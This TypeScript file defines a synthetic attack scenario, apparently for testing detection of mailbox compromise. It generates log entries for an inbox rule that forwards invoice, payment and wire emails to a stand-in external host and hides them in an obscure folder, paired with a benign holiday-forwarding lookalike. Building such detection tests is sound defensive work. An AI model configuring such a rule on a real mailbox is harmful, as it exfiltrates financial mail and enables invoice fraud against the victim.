import { at, iso, type LibraryScenario } from '../attack-context.ts';
import { addMailboxChange } from '../office-rows.ts';
import { floorTo, HOUR, MINUTE } from '../time-grid.ts';

/** With the victim's session, the attacker adds an inbox rule that forwards invoices outside and hides them. */
export const mailboxForwarding: LibraryScenario = {
  kind: 'mailbox-forwarding',
  loosened: { includeInternal: 'yes' },
  attack: ({ logs, org, ip, victim, end }) => {
    const time = floorTo(end - 5 * HOUR, MINUTE);
    addMailboxChange(logs, org, {
      time: at(time),
      upn: victim.upn,
      ip,
      operation: 'New-InboxRule',
      // Typed in this order, so the destination is neither the second nor the third parameter.
      parameters: {
        Mailbox: victim.upn,
        Name: '.',
        SubjectOrBodyContainsWords: 'invoice;payment;wire',
        MoveToFolder: 'RSS Subscriptions',
        ForwardTo: 'ap.archive@mailbox-relay.example',
        StopProcessingRules: 'True',
      },
    });
    return {
      account: victim.upn,
      start: iso(time),
      end: iso(time),
      description: `Mailbox forwarding: an inbox rule sends ${victim.upn}'s invoices to mailbox-relay.example.`,
    };
  },
  lookalike: ({ logs, org, bystander, end }) => {
    // Before a holiday, someone forwards their mail to the colleague covering for them.
    const cover = org.users.find((user) => user !== bystander)!;
    addMailboxChange(logs, org, {
      time: at(floorTo(end - 22 * HOUR, MINUTE)),
      upn: bystander.upn,
      ip: org.natIp,
      operation: 'Set-Mailbox',
      parameters: {
        Identity: bystander.upn,
        DeliverToMailboxAndForward: 'True',
        ForwardingSmtpAddress: `smtp:${cover.upn}`,
      },
    });
    return {
      kind: 'holiday-forwarding',
      account: bystander.upn,
      description: 'Mail forwarded to a colleague in the same organisation during a holiday.',
    };
  },
};
